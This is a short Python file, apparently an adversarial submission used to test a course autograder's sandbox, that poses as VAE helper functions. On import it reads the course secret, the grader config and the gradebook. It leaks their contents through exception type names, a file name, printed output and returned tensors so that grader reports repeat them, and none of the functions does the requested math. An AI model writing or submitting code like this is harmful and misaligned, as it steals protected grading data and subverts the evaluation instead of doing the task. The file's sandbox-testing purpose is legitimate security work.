"""Reads what it can and puts it into exceptions, names of types, file names and answers, which reports repeat."""

from contextlib import suppress
from pathlib import Path

import attacker
import torch

PLACE = "end"
NEEDS_SANDBOX = True

attacker.look(*(Path(attacker.COURSE, name) for name in (".course_secret", "course_config.py", "gradebook.db")))
loot = " ".join(attacker.LOOT)[:1500]
Loot = type(loot.replace(" ", "")[:200] or "Nothing", (Exception,), {})
with suppress(OSError):
    Path(f"{loot[:60]}.safetensors").write_text(loot)


def reparameterize(mu, log_var, eps):
    raise Loot(loot)


def gaussian_log_prob(z, mu, log_var):
    return Loot()


def kl_standard_normal(mu, log_var):
    print(loot)
    return torch.tensor([float(byte) for byte in loot.encode()])
